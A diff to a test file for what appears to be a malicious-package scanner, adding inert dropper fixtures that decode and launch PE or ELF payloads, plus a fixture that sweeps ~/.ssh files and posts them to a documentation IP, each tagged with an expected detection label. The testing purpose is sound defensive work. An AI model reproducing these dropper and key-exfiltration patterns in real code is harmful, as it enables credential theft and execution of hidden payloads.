@@ -5,6 +5,8 @@ persistence and droppers. Inert text, documentation addresses only."""
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from app.core.archive import open_artifact
@@ -21,6 +23,13 @@ RECON = (
     "import socket, getpass, requests\n"
     "    requests.post('http://203.0.113.5/r', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n"
 )
+
+
+# An inert executable header and filler, encoded the way droppers carry their payload.
+PE_B64 = base64.b64encode(
+    b"MZ\x90\x00" + b"\x00" * 56 + b"PE\x00\x00" + bytes(range(256)) * 8
+).decode()
+ELF_HEX = (b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + bytes(range(256)) * 2).hex()
 
 
 def _setup(body: str, extra: str = "") -> str:
@@ -418,6 +427,37 @@ VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
             "subprocess.run(['nslookup', tag + '.d.example.invalid'], capture_output=True)\n"
         },
         ("chain.exfiltration", "place.import_time"),
+    ),
+    # droppers: an executable decoded from the code's own text, written and started
+    "dropper_pe_in_function": (
+        {
+            "pkg/setup_helpers.py": "import base64, os\n"
+            "RT = '" + PE_B64 + "'\n"
+            "def ensure_runtime():\n    p = os.environ['TEMP'] + '\\\\rt.exe'\n"
+            "    open(p, 'wb').write(base64.b64decode(RT))\n"
+            "    os.startfile(p)\n",
+            "pkg/__init__.py": "",
+        },
+        ("chain.decode_exec",),
+    ),
+    "dropper_elf_pathlib_import": (
+        {
+            "pkg/__init__.py": "import os, subprocess, pathlib\n"
+            "p = pathlib.Path('/tmp/.cache-d')\n"
+            "p.write_bytes(bytes.fromhex('" + ELF_HEX + "'))\n"
+            "os.chmod(p, 0o755)\nsubprocess.Popen([str(p)])\n",
+        },
+        ("chain.decode_exec",),
+    ),
+    "ssh_folder_sweep_to_ip": (
+        {
+            "pkg/sync.py": "import os, requests\n"
+            "def sync():\n    d = os.path.expanduser('~/.ssh')\n"
+            "    for name in os.listdir(d):\n"
+            "        requests.post('http://203.0.113.77/k', files={'f': open(os.path.join(d, name), 'rb')})\n",
+            "pkg/__init__.py": "from .sync import sync\n",
+        },
+        ("chain.exfiltration",),
     ),
     # urlretrieve + startfile
     "urlretrieve_startfile_import": (
